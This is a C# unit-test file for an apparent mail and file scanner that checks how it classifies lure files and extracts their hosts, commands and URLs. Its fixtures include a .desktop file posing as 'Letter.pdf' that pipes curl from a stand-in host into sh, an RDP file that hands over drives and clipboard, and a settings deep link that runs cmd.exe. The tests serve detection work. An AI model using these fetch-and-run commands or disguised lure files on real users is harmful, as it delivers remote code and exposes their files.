using System.Text;
using Lurewatch.Files;
using Lurewatch.Files.Shell;
using Lurewatch.Tests.Files.Programs;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Files;

public sealed class ShellFileTests
{
    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void A_remote_desktop_file_tells_where_it_connects_what_it_hands_over_and_what_it_starts(bool wide)
    {
        var text = "screen mode id:i:2\r\nfull address:s:zero.rdp.example:3390\r\ndrivestoredirect:s:*\r\nredirectclipboard:i:1\r\nredirectprinters:i:0\r\nremoteapplicationmode:i:1\r\n"
            + "remoteapplicationprogram:s:||Storage\r\nremoteapplicationname:s:AWS Secure Storage Connection Stability Test\r\n";
        var analysis = Scan(wide ? [0xff, 0xfe, .. Encoding.Unicode.GetBytes(text)] : Encoding.ASCII.GetBytes(text), "Zero Trust.rdp");

        analysis.Root.Type.ShouldBe(FileType.Rdp);
        var facts = (RdpFacts)analysis.Root.Facts!;
        (facts.Address, facts.Program, facts.Signed).ShouldBe(("zero.rdp.example:3390", "||Storage", false));
        facts.Redirected.ShouldBe(["drives", "clipboard"]);
        ((string[])["rdp.attached", "rdp.hands-over-drives", "rdp.starts-program"]).ShouldBeSubsetOf(analysis.Findings.Select(finding => finding.Kind.Id));
        analysis.Indicators.ShouldContain(found => found.Type == IndicatorType.Domain && found.Value == "zero.rdp.example");
    }

    [Fact]
    public void The_signer_of_a_remote_desktop_file_is_named_and_not_believed()
    {
        var signature = Convert.ToBase64String([.. new byte[12], .. Signatures.Of("Made Up Certificate")]);

        var analysis = Scan(Encoding.ASCII.GetBytes($"full address:s:192.0.2.7\r\nsignscope:s:Full Address\r\nsignature:s:{signature}\r\n"), "a.rdp");

        ((RdpFacts)analysis.Root.Facts!).Signers.Single().Subject.ShouldBe("CN=Made Up Certificate");
        analysis.Findings.Single(finding => finding.Kind.Id == "rdp.signed").Reason.ShouldContain("not verified");
        analysis.Indicators.ShouldContain(found => found.Type == IndicatorType.Ipv4 && found.Value == "192.0.2.7");
    }

    [Fact]
    public void The_command_of_a_desktop_entry_comes_out()
    {
        var analysis = Scan("[Desktop Entry]\nType=Application\nName=Letter.pdf\nExec=sh -c \"curl http://linux.example/a | sh\"\nIcon=application-pdf\n"u8.ToArray(), "Letter.pdf.desktop");

        analysis.Root.Type.ShouldBe(FileType.DesktopEntry);
        analysis.Artifacts.ShouldContain(file => file.Origin == "command" && file.Steps.Contains("Exec"));
        analysis.Findings.ShouldContain(finding => finding.Kind.Id == "shell-file.runs-command");
        Urls(analysis).ShouldContain("http://linux.example/a");
    }

    [Fact]
    public void A_library_leads_to_the_share_that_it_shows()
    {
        var analysis = Scan("""
            <?xml version="1.0" encoding="UTF-8"?>
            <libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><name>@shell32.dll,-34575</name><iconReference>imageres.dll,-1002</iconReference>
            <searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>http://dav.example/docs</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>
            """u8.ToArray(), "Documents.library-ms");

        analysis.Root.Type.ShouldBe(FileType.ShellLibrary);
        Urls(analysis).ShouldBe(["http://dav.example/docs"]);
        analysis.Findings.ShouldContain(finding => finding.Kind.Id == "shell-file.leads-elsewhere");
    }

    [Fact]
    public void The_deep_link_of_a_setting_is_a_command()
    {
        var analysis = Scan("""
            <?xml version="1.0" encoding="UTF-8"?><PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent"><ApplicationInformation>
            <DeepLink>%windir%\system32\cmd.exe /c start http://deep.example/a</DeepLink></ApplicationInformation></SearchableContent></PCSettings>
            """u8.ToArray(), "a.SettingContent-ms");

        analysis.Root.Type.ShouldBe(FileType.SettingContent);
        analysis.Artifacts.ShouldContain(file => file.Origin == "command" && file.Steps.Contains("DeepLink"));
        analysis.Findings.ShouldContain(finding => finding.Kind.Id == "shell-file.runs-command");
    }

    [Theory]
    [InlineData("<?xml version=\"1.0\"?><jnlp spec=\"1.0+\" codebase=\"http://web.example/start/\"><information><title>Viewer</title></information><resources><jar href=\"viewer.jar\" main=\"true\"/></resources></jnlp>", "a.jnlp", "http://web.example/start/viewer.jar")]
    [InlineData("<?xml version=\"1.0\"?><asmv1:assembly xmlns=\"urn:schemas-microsoft-com:asm.v2\" xmlns:asmv1=\"urn:schemas-microsoft-com:asm.v1\"><deployment install=\"true\"><deploymentProvider codebase=\"http://click.example/a.application\"/></deployment></asmv1:assembly>", "a.application", "http://click.example/a.application")]
    public void Deployments_over_the_web_name_what_they_fetch(string xml, string name, string url)
    {
        var analysis = Scan(Encoding.UTF8.GetBytes(xml), name);

        Urls(analysis).ShouldBe([url]);
        analysis.Findings.ShouldContain(finding => finding.Kind.Id == "shell-file.leads-elsewhere");
    }

    [Theory]
    [InlineData("The full address:s: of a desktop file is explained here.\nfull address is what it says.\n")]
    [InlineData("[Desktop]\nEntry=1\n")]
    [InlineData("<?xml version=\"1.0\"?><assembly xmlns=\"urn:schemas-microsoft-com:asm.v1\"><trustInfo/></assembly>")]
    public void What_only_looks_alike_stays_text(string text) =>
        Scan(Encoding.UTF8.GetBytes(text), "a.txt").Root.Type.ShouldBeOneOf(FileType.Txt, FileType.Xml);

    private static IEnumerable<string> Urls(Analysis analysis) => analysis.Indicators.Where(found => found is { Type: IndicatorType.Url, Role: "download-url" }).Select(found => found.Value);

    private static Analysis Scan(byte[] bytes, string name) => new MailScanner(new ScanOptions { Strict = true }).Scan(bytes, name);
}
